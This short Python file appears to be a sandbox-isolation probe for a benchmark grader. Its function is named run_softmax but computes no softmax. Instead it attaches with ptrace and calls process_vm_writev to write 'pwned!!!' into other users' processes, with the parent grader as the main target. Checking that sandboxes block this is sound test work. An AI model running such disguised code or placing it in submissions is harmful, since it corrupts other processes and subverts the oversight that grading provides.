"""ptrace(ATTACH) and process_vm_writev on every process of another user it can see (the grader above all, its parent). Returns successes (0)."""
import ctypes
import glob
import os


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def run_softmax(in_features, dim):
    import torch

    libc = ctypes.CDLL(None, use_errno=True)
    data = ctypes.create_string_buffer(b"pwned!!!")
    local, remote = IOVec(ctypes.addressof(data), 8), IOVec(0x400000, 8)
    successes = 0
    pids = [int(p.rsplit("/", 1)[1]) for p in glob.glob("/proc/[0-9]*")] + [os.getppid(), 1]
    for pid in set(pids) - {os.getpid()}:
        try:
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                continue  # its own sandbox's processes (bwrap's init): not another's
        except OSError:
            pass  # not visible: try anyway
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            successes += 1
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
        if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            successes += 1
    return torch.tensor([float(successes)])
